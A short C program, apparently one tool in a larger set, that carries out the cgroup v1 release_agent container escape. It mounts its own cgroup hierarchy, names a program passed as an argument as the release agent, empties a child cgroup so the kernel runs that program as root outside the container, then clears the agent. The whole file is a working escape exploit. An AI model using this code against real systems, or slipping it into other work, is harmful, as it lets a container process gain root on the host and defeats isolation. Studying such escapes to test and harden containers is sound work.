/*
 * release PROGRAM: mounts a cgroup v1 hierarchy of its own, names PROGRAM as its release agent, and lets a
 * cgroup in it become empty: the kernel then runs PROGRAM, a path outside, as root.
 */
#include "way.h"
#include <sys/wait.h>
#include <time.h>

static void put(const char *path, const char *text) {
    int fd = open(path, O_WRONLY);
    if (fd < 0 || write(fd, text, strlen(text)) < 0)
        held(path);
    close(fd);
}

int main(int argc, char **argv) {
    (void)argc;
    char options[64];
    struct timespec now;
    clock_gettime(CLOCK_REALTIME, &now); /* a hierarchy may outlive its mounts: never the same name again */
    snprintf(options, sizeof options, "none,name=escape-%ld", now.tv_nsec);
    if (mount("cgroup", "/tmp", "cgroup", 0, options) < 0)
        held("mount");
    put("/tmp/release_agent", argv[1]);
    if (mkdir("/tmp/child", 0700) < 0)
        held("mkdir");
    put("/tmp/child/notify_on_release", "1");
    pid_t child = fork();
    if (child == 0) {
        put("/tmp/child/cgroup.procs", "0");
        _exit(0);
    }
    waitpid(child, 0, 0);
    usleep(500000);
    rmdir("/tmp/child");
    put("/tmp/release_agent", "\n");
    return 0;
}
